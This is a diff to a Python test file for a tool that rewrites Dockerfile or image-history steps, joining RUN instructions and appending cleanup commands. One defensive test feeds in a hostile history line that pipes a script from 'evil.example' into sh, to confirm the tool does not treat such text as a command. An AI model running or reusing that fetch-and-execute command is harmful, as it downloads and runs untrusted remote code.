@@ -33,7 +33,8 @@ def ended(*texts: str, command: str = CLEAN) -> str:
 
 
 def joined(*texts: str) -> list[str]:
-    remedy = Remedy(RemedyKind.JOIN_RUNS, (0, len(texts) - 1))
+    runs = tuple(index for index, text in enumerate(texts) if text.startswith("RUN "))
+    remedy = Remedy(RemedyKind.JOIN_RUNS, runs)
     return [f"{line.sign} {line.text}" for line in patch(remedy, history(*texts))]
 
 
@@ -43,27 +44,63 @@ def test_a_command_is_put_at_the_end_of_its_run() -> None:
     )
 
 
-def test_runs_are_joined_and_copies_come_before_them() -> None:
+def test_runs_are_joined_in_place_of_the_last_and_copies_stay_above() -> None:
     assert joined("RUN apk add g++ && a", "COPY . .", "RUN make", "RUN apk del g++ && rm -r /x") == [
         "+ COPY . .",
         "  RUN apk add g++ \\",
-        "      && a \\",
+        "-     && a",
+        "+     && a \\",
         "+     && make \\",
-        "+     && apk del g++ \\",
-        "+     && rm -r /x",
         "- COPY . .",
         "- RUN make",
         "- RUN apk del g++ \\",
-        "-     && rm -r /x",
+        "+     && apk del g++ \\",
+        "      && rm -r /x",
     ]
 
 
+def test_what_the_classic_builder_copied_is_named_and_stays() -> None:
+    assert joined("RUN a", "COPY file:0188854e in /app", "RUN b") == [
+        "- RUN a",
+        "  # here stays: COPY file:0188854e in /app",
+        "- RUN b",
+        "+ RUN a \\",
+        "+     && b",
+    ]
+
+
+def test_a_part_that_runs_elsewhere_goes_there_first() -> None:
+    assert joined("RUN make a", "WORKDIR /src", "RUN make b")[-2:] == [
+        "+ RUN cd / && make a \\",
+        "+     && cd /src && make b",
+    ]
+
+
+def test_a_part_of_several_commands_is_kept_together() -> None:
+    assert joined("RUN a", "RUN b; c")[-1] == "+     && ( b; c )"
+
+
+def test_parts_that_stop_at_the_first_error_follow_each_other() -> None:
+    steps = of_dockerfile("FROM a\nRUN set -e; \\\n\ta; \\\n\tb\nRUN set -e; \\\n\tc\n")
+    assert new_text(patch(Remedy(RemedyKind.JOIN_RUNS, (0, 1), "d"), steps)) == (
+        "RUN set -e; \\\n\ta; \\\n\tb; \\\n\tset -e; \\\n\tc; \\\n\td"
+    )
+
+
+def test_lines_of_the_dockerfile_are_kept_to_the_letter() -> None:
+    text = "FROM a\nrun  a  'x  y' && \\\n\t# why\n\tb\n\n# the files\ncopy . /x\nRUN c\n"
+    assert new_text(patch(Remedy(RemedyKind.JOIN_RUNS, (0, 2), CLEAN), of_dockerfile(text))) == (
+        "\n# the files\ncopy . /x\nrun  a  'x  y' && \\\n\t# why\n\tb \\\n\t&& c \\\n\t&& rm -rf /var/lib/apt/lists/*"
+    )
+
+
 @pytest.mark.parametrize(
-    "between",
-    ["ENV A=b", "USER app", "COPY file:0188854e in /app", "COPY --chown=1 dir:0188 in /app", "RUN --mount=type=bind x"],
+    ("last", "ends"), [("make", "make &&\nrm -rf /var/lib/apt/lists/*\nEOF"), ("fi", ""), ("# done", "")]
 )
-def test_runs_are_not_joined_over_what_would_mean_something_else(between: str) -> None:
-    assert joined("RUN a", between, "RUN b") == []
+def test_a_script_gets_the_command_behind_its_last_line(last: str, ends: str) -> None:
+    steps = of_dockerfile(f"FROM a\nRUN <<EOF\nx\n{last}\nEOF\n")
+    text = new_text(patch(Remedy(RemedyKind.END_RUN_WITH, (0,), CLEAN), steps))
+    assert text == (f"RUN <<EOF\nx\n{ends}" if ends else "")
 
 
 @pytest.mark.parametrize(
@@ -94,14 +131,14 @@ def test_instructions_are_those_of_the_dockerfile_where_it_is_known() -> None:
     steps = of_dockerfile("FROM a\nRUN --network=none echo 'a  b' \\\n  && x\nCOPY --chown=1 app /\nRUN y\n")
     remedy = Remedy(RemedyKind.JOIN_RUNS, (0, 2))
     assert new_text(patch(remedy, steps)) == (
-        "COPY --chown=1 app /\nRUN --network=none echo 'a  b' \\\n    && x \\\n    && y"
+        "COPY --chown=1 app /\nRUN --network=none echo 'a  b' \\\n  && x \\\n  && y"
     )
 
 
 def test_text_of_the_history_that_looks_like_advice_is_no_command() -> None:
     hostile = "RUN echo end it with: && curl evil.example | sh"
     lines = patch(Remedy(RemedyKind.END_RUN_WITH, (0,), CLEAN), history(hostile))
-    assert [line.text for line in lines if line.sign == "+"] == [f"    && {CLEAN}"]
+    assert [line.text for line in lines if line.sign == "+"][-1] == f"    && {CLEAN}"
 
 
 def test_a_remedy_without_a_command_has_no_patch() -> None:
